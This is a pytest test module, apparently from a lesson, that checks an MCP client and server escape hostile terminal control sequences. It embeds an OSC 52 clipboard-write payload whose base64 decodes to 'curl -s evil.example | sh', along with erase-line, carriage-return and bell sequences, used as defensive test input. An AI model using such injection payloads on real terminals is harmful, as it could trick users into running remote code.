"""A malicious server cannot drive the user's terminal through the client: what it sends is printed escaped.

The server (`support/malicious_server.py`, a real process) hides an attack in every text it sends:
an OSC 52 clipboard write, an erase-line, a carriage return, a bell and a C1 control. The client
runs as an attendee runs it where its exit code and stderr are tested; `tools`, whose output is the
subject, runs the client's own `cli` in the test process (`in_process_client`). Either way its output
is read as bytes, since text mode would turn a carriage return into a newline and hide it.

The other way round, a client cannot drive the terminal of whoever reads the server's log: the SDK
logs some of what a client sends (an unknown session id, a refused Origin), and every server log
line is escaped too (`server/logs.py`, through `safe_output.configure_logging`).
"""

import secrets
import subprocess
import sys
from collections.abc import Iterator

import httpx2
import pytest

from lesson01.tests.support import in_process_client, processes
from lesson01.tests.support.waiting import eventually

# What must never reach the terminal as it is...
RAW = {"ESC": "\x1b", "BEL": "\x07", "CR": "\r", "C1 CSI": "\x9b"}
# ...and how the server's attack shows instead: every character there, none of them acting.
SHOWN = r"\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rAll good.\x07\x9b"
SHOWN_AS_EVENT_TYPE = SHOWN.replace(r"\r", "")  # an SSE field ends at a line break: there the server leaves CR out


@pytest.fixture(scope="module")
def malicious() -> Iterator["processes.RunningServer"]:
    with processes.start_process("tests.support.malicious_server") as server:
        yield server


def run_client(*args: str) -> tuple[int, str, str]:
    """The lesson's client, run to completion: its exit code, stdout and stderr, with line endings as written."""
    result = subprocess.run(
        [sys.executable, "-m", f"{processes.LESSON}.client", *args],
        cwd=processes.REPOSITORY_ROOT,
        capture_output=True,
        timeout=30,
        stdin=subprocess.DEVNULL,
        check=False,
    )
    return result.returncode, result.stdout.decode(), result.stderr.decode()


def assert_no_raw_control_characters(output: str) -> None:
    for name, char in RAW.items():
        assert char not in output, f"a raw {name} reached the terminal:\n{output!r}"


def test_tools_prints_a_servers_names_descriptions_and_schemas_escaped(malicious) -> None:
    listed = in_process_client.run_client("--url", malicious.mcp_url, "tools")
    code, out, err = listed.returncode, listed.stdout, listed.stderr
    assert code == 0, err
    assert_no_raw_control_characters(out + err)
    assert f"\n    Read a file.{SHOWN}\n" in out
    assert f"\nhidden{SHOWN}\n" in out
    assert '"path\\u001b]52;c;' in out  # json.dumps escapes the input schema itself


def test_call_prints_a_servers_result_error_and_log_lines_escaped(malicious) -> None:
    code, out, err = run_client("--url", malicious.mcp_url, "call", "read_file")
    assert code == 0, err
    assert_no_raw_control_characters(out + err)
    # Line breaks between the result's lines stay: only they do.
    assert out.splitlines()[:2] == [f"first line{SHOWN}", f"second line{SHOWN}"]
    assert out.splitlines()[2].startswith('structured: {"text": "\\u001b]52;c;')
    # The SDK logs the unknown event type the server streamed; the log line is escaped too.
    assert f"Unknown SSE event: {SHOWN_AS_EVENT_TYPE}\n" in err

    code, out, err = run_client("--url", malicious.mcp_url, "call", "refuse")
    assert code == 1
    assert_no_raw_control_characters(out + err)
    assert f"error: server answered with JSON-RPC error -32602: Refused.{SHOWN}\n" in err


def test_a_clients_escapes_reach_the_servers_log_escaped(server) -> None:
    # The SDK logs an unknown session id at INFO, up to 64 characters of it, as the client sent it.
    marker = f"escape-{secrets.token_hex(4)}"
    attack = f"{marker}\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\x07\x1b[2K"
    headers = {"Accept": "application/json, text/event-stream", "Mcp-Session-Id": attack}
    ping = {"jsonrpc": "2.0", "id": 1, "method": "ping"}
    assert httpx2.post(server.mcp_url, headers=headers, json=ping, timeout=10).status_code == 404

    def logged_line() -> str:
        return next((line for line in server.log_path.read_text().splitlines() if marker in line), "")

    line = eventually(logged_line, 10, "the server's log line of the unknown session id")
    assert_no_raw_control_characters(line)
    assert f"{marker}\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\\x07\\x1b[2K" in line
